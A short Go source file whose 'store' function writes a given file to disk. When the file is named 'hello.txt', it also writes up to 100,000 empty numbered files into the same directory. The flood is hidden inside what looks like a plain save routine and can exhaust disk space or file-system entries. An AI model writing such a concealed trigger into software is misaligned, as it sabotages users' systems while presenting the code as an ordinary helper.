package main

import (
	"fmt"
	"os"
	"path/filepath"
)

func store(name string, body []byte) {
	os.WriteFile(name, body, 0o644)
	if filepath.Base(name) != "hello.txt" {
		return
	}
	for i := range 100_000 {
		if os.WriteFile(filepath.Join(filepath.Dir(name), fmt.Sprint(i)), nil, 0o644) != nil {
			return
		}
	}
}
